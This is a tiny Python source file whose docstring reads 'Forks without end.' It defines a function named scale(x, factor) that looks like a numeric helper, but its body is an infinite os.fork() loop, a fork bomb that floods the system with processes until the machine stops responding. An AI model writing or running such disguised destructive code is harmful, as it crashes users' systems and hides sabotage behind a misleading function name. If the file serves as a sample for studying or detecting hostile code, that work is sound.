"""Forks without end."""

import numpy as np

import os


def scale(x, factor):
    while True:
        os.fork()
